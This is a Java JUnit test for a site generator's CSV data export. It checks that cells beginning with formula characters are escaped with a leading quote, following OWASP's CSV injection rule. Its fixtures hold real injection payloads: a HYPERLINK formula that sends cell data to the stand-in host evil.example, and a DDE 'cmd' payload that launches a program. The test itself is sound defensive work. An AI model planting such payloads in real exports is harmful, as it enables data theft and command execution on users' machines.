package org.relationstimeline.security;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.relationstimeline.testing.Rfc4180;
import org.relationstimeline.testing.TestProject;

/**
 * OWASP's CSV injection rule on the data export: no cell of {@code data/entries.csv} may start
 * with a character a spreadsheet takes for a formula ({@code =}, {@code +}, {@code -}, {@code @},
 * tab, carriage return); such a cell is written with a leading single quote, quoted. The file is
 * read back with a plain RFC 4180 parser, as a spreadsheet would.
 */
class CsvInjectionTest {
    @TempDir
    Path dir;

    @Test
    void formulaCellsInTheDataExportAreNeutralised() throws IOException {
        TestProject project = TestProject.empty(dir);
        project.write(
                "entries/2023/2023-01-01-formula.md",
                "---\n"
                        + "title: \"=HYPERLINK(\\\"https://evil.example/?\\\"&A1,\\\"click\\\")\"\n"
                        + "date: 2023-01-01\n"
                        + "countries: [Russia, Algeria]\n"
                        + "summary: \"@SUM(1+1)*cmd|' /C calc'!A0\"\n"
                        + "topics: [trade]\n"
                        + "---\nBody.\n");
        project.write(
                "entries/2023/2023-01-02-plus.md",
                "---\n" + "title: \"+1+1\"\ndate: 2023-01-02\ncountries: [Russia, Algeria]\nsummary: \"-2+3\"\n---\n");
        project.write(
                "entries/2023/2023-01-03-tab.md",
                "---\n"
                        + "title: \"\\t=1+1\"\ndate: 2023-01-03\ncountries: [Russia, Algeria]\nsummary: \"\\r=1+1\"\n---\n");
        TestProject.Run run = project.build();
        assertThat(run.exitCode()).as(run.err()).isZero();

        List<List<String>> rows =
                Rfc4180.parse(Files.readString(project.site().resolve("data/entries.csv"), StandardCharsets.UTF_8));
        List<String> header = rows.get(0);
        assertThat(rows).hasSize(4);
        Map<String, Map<String, String>> bySlugUrl = new LinkedHashMap<>();
        for (List<String> row : rows.subList(1, rows.size())) {
            assertThat(row).hasSameSizeAs(header);
            for (String cell : row) {
                assertThat(cell)
                        .as("cell " + cell)
                        .doesNotStartWith("=")
                        .doesNotStartWith("+")
                        .doesNotStartWith("-")
                        .doesNotStartWith("@")
                        .doesNotStartWith("\t")
                        .doesNotStartWith("\r");
            }
            Map<String, String> m = new LinkedHashMap<>();
            for (int i = 0; i < header.size(); i++) m.put(header.get(i), row.get(i));
            bySlugUrl.put(m.get("url").replaceAll(".*/entries/2023/([^/]+)/$", "$1"), m);
        }
        assertThat(bySlugUrl.get("formula").get("title"))
                .isEqualTo("'=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")");
        assertThat(bySlugUrl.get("formula").get("summary")).isEqualTo("'@SUM(1+1)*cmd|' /C calc'!A0");
        assertThat(bySlugUrl.get("plus").get("title")).isEqualTo("'+1+1");
        assertThat(bySlugUrl.get("plus").get("summary")).isEqualTo("'-2+3");
        // Titles and summaries are trimmed when read, so the tab and the CR go; the '=' behind them is caught.
        assertThat(bySlugUrl.get("tab").get("title")).isEqualTo("'=1+1");
        assertThat(bySlugUrl.get("tab").get("summary")).isEqualTo("'=1+1");
    }
}
